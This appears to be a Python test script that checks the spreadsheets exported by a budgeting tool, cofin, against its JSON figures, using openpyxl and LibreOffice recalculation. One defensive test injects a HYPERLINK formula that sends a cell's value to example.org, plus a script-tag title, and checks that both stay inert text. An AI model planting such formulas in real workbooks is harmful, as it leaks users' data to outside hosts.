"""The workbooks of `cofin check --xlsx` and `cofin statement --xlsx`: what openpyxl reads in them, and whether LibreOffice, which
counts every formula anew, comes to the figures of `--json`.

    python3 tests/office/workbooks.py build/release/cofin MODULES

Run in the project's root. MODULES is a virtual environment with openpyxl. Exit code 0, 1 with what is wrong, 77 where openpyxl
or LibreOffice is not installed.
"""

import json
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from decimal import Decimal
from pathlib import Path

COFIN, MODULES = sys.argv[1:3]
for folder in Path(MODULES).glob("lib/python3*/site-packages"):
    sys.path.insert(0, str(folder))
try:
    import openpyxl
except ImportError:
    print("skipped: openpyxl is not installed")
    sys.exit(77)
OFFICE = shutil.which("soffice")
if OFFICE is None:
    print("skipped: LibreOffice is not installed")
    sys.exit(77)

ATTACK = '=HYPERLINK("http://example.org/?"&A1,"open")'
SCRIPT = "<script>alert(1)</script>"
problems = []


def expect(where, what, found, expected):
    if found != expected:
        problems.append(f"{where}: {what}: found {found!r}, expected {expected!r}")


def run(*arguments):
    done = subprocess.run([COFIN, *arguments], capture_output=True, text=True, check=False)
    if done.returncode > 1:
        raise RuntimeError(f"cofin {arguments}: {done.stderr}")
    return done.stdout


def amount(value):
    """A number of a sheet to the cent."""
    return None if value is None or isinstance(value, str) else Decimal(repr(value)).quantize(Decimal("0.01"))


def table(book, name):
    """The rows of a sheet as dictionaries by head, sums included."""
    rows = [list(row) for row in book[name].iter_rows(values_only=True)]
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def recounted(file, folder):
    """The workbook without a single stored result, opened and saved by LibreOffice, which therefore counts all of them."""
    bare = folder / "bare" / file.name
    bare.parent.mkdir(exist_ok=True)
    removed = 0
    with zipfile.ZipFile(file) as source, zipfile.ZipFile(bare, "w") as target:
        for part in source.namelist():
            text = source.read(part)
            if part.startswith("xl/worksheets/sheet"):
                text, count = re.subn(rb"(</f>)<v>[^<]*</v>", rb"\1", text)
                removed += count
            target.writestr(part, text)
    expect(file.name, "formulas", removed > 5, True)
    out = folder / "counted"
    profile = (folder / "profile").as_uri()
    subprocess.run(
        [OFFICE, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "xlsx", "--outdir", str(out), str(bare)],
        check=True, capture_output=True, timeout=300)
    return openpyxl.load_workbook(out / file.name, data_only=True)


def check_project(name, book, shown):
    """The figures of one project against its JSON."""
    totals = shown["totals"]
    for row in table(book, "Statement"):
        for figure in ("planned", "declared", "eligible", "ineligible", "open"):
            expect(name, f"{row['project']} {figure}", amount(row[figure]), Decimal(totals[figure]))
    sums = table(book, "Costs")[-1]
    for figure in ("declared", "eligible", "ineligible", "open"):
        expect(name, f"sum of costs, {figure}", amount(sums[figure]), Decimal(totals[figure]))
    paying = {row["source"]: row for row in table(book, "Who pays")}
    for part in shown["funding"]:
        expect(name, part["source"], amount(paying[part["source"]]["claimed"]), Decimal(part["amount"]))
    findings = [row for row in table(book, "Findings") if row["about"]]
    expect(name, "findings", [(row["about"], row["rule"]) for row in findings],
           [(found["item"], found["rule"]) for found in shown["findings"]])


def check_statement(name, book, shown):
    costs = table(book, "Costs")[-1]
    for figure in ("declared", "open", "accepted", "certified", "parked", "ineligible"):
        expect(name, f"sum of costs, {figure}", amount(costs[figure]), Decimal(shown["costs"][figure]))
    for row, fund in zip(table(book, "Funds"), shown["funds"]):
        for figure, key in (("certified", "certified"), ("paid", "paid"), ("due", "due"), ("repayable", "repayable")):
            expect(name, f"{fund['fund']} {figure}", amount(row[figure]), Decimal(fund[key]))
    for row, use in zip(table(book, "Budget"), shown["budget"]):
        expect(name, f"remaining of {use['category']}", amount(row["remaining"]),
               None if use["remaining"] is None else Decimal(use["remaining"]))


def hostile(folder):
    """The example with faults, in which texts try to be more than text."""
    path = folder / "hostile"
    shutil.copytree("examples/urady-bez-hranic-faults", path)
    project = path / "project.toml"
    project.write_text(re.sub(r"^title .*$", f"title = '{SCRIPT}'", project.read_text(), count=1, flags=re.M))
    costs = path / "costs.csv"
    lines = costs.read_text().split("\n")
    at = lines[0].split(",").index("description")
    cells = lines[1].split(",")
    cells[at] = '"' + ATTACK.replace('"', '""') + '"'
    lines[1] = ",".join(cells)
    costs.write_text("\n".join(lines))
    return str(path)


def ledger(folder):
    """A ledger with a claim certified and paid in part."""
    file = ["--ledger", str(folder / "urady.cofin")]
    run("record", "examples/urady-bez-hranic", *file, "--booked", "2018-11-12")
    run("claim", *file, "--number", "1", "--booked", "2018-11-12")
    run("assess", *file, "--claim", "1", "--booked", "2018-11-20")
    run("certify", *file, "--claim", "1", "--booked", "2018-11-30")
    run("pay", "--fund", "ERDF", "--amount", "15000.00", "--claim", "1", "--to", "pl", *file, "--booked", "2018-12-10")
    return file


# Heads that are looked for, as each language says them.
DECLARED = {"pl": "zadeklarowane", "cs": "vykázané", "uk": "заявлені"}
COSTS = {"pl": "Wydatki", "cs": "Výdaje", "uk": "Витрати"}
SHOWN_BY = {"pl": "[$-415]#,##0.00", "cs": "[$-405]#,##0.00", "uk": "[$-422]#,##0.00"}


def texts_of(value):
    """All texts of a JSON."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for part in value.values():
            yield from texts_of(part)
    elif isinstance(value, list):
        for part in value:
            yield from texts_of(part)


def compare_languages(name, english, other, language, quoted):
    """The same figures in the same cells; no word that stands so in English, but for names and quotations."""
    expect(name, "sheets", len(other.sheetnames), len(english.sheetnames))
    expect(name, "sheets named in English", [title for title in other.sheetnames if title in english.sheetnames], [])
    for left, right in zip(english, other):
        expect(name, f"size of {right.title}", right.dimensions, left.dimensions)
        for row, others in zip(left.iter_rows(), right.iter_rows()):
            for cell, said in zip(row, others):
                if cell.data_type == "s":
                    if cell.value == said.value and re.search("[a-z]{2}", said.value) and said.value not in quoted:
                        problems.append(f"{name}: {right.title} {said.coordinate}: {said.value!r} as in English")
                elif cell.data_type == "n" and cell.value is not None:
                    expect(name, f"{right.title} {said.coordinate}", said.value, cell.value)
                    if cell.number_format == "#,##0.00":
                        expect(name, f"format of {said.coordinate}", said.number_format, SHOWN_BY[language])


def languages(folder):
    """Each workbook in each language, stored and counted again."""
    path = "examples/urady-bez-hranic-faults"
    costs = Path(path, "costs.csv").read_text() + Path(path, "project.toml").read_text()
    shown = json.loads(run("check", path, "--json", "--xlsx", str(folder / "faults.xlsx")))
    english = openpyxl.load_workbook(folder / "faults.xlsx", data_only=True)
    quoted = set(re.findall(r"[\w./-]+", costs)) | {shown["title"], shown["rulebook"]["id"] + " " + shown["rulebook"]["version"]}
    quoted |= {row[5].value for row in english["Costs"].iter_rows() if row[5].value}
    quoted |= {text for found in shown["findings"] for text in texts_of(found["cite"])}
    quoted |= {row[6].value for row in english["Findings"].iter_rows() if row[6].value and row[6].row > 1}
    quoted |= {row[4].value for row in english["Who pays"].iter_rows() if row[4].value and row[4].row > 1}
    quoted |= {"own", "partner"}
    for language, head in DECLARED.items():
        file = folder / f"faults-{language}.xlsx"
        run("check", path, "--xlsx", str(file), "--lang", language)
        compare_languages(f"faults, {language}", english, openpyxl.load_workbook(file, data_only=True), language, quoted)
        counted = table(recounted(file, folder), COSTS[language])[-1]
        expect(f"faults, {language}, recounted", head, amount(counted[head]), Decimal(shown["totals"]["declared"]))


def main(folder):
    languages(folder)
    for name, path in (("published", "examples/urady-bez-hranic"), ("hostile", hostile(folder))):
        file = folder / f"{name}.xlsx"
        shown = json.loads(run("check", path, "--json", "--xlsx", str(file)))
        check_project(f"{name}, as stored", openpyxl.load_workbook(file, data_only=True), shown)
        check_project(f"{name}, recounted", recounted(file, folder), shown)
        if name == "hostile":
            book = openpyxl.load_workbook(file)
            attacked = [cell for row in book["Costs"].iter_rows() for cell in row if cell.value == ATTACK]
            expect(name, "texts that look like a formula", [cell.data_type for cell in attacked], ["s"])
            expect(name, "links", [sheet.title for sheet in book if sheet._hyperlinks], [])
            expect(name, "title", book["Statement"]["B2"].value, SCRIPT)
    file = folder / "statement.xlsx"
    shown = json.loads(run("statement", *ledger(folder), "--json", "--xlsx", str(file)))
    check_statement("statement, as stored", openpyxl.load_workbook(file, data_only=True), shown)
    check_statement("statement, recounted", recounted(file, folder), shown)


with tempfile.TemporaryDirectory() as scratch:
    main(Path(scratch))
print("\n".join(problems))
sys.exit(1 if problems else 0)
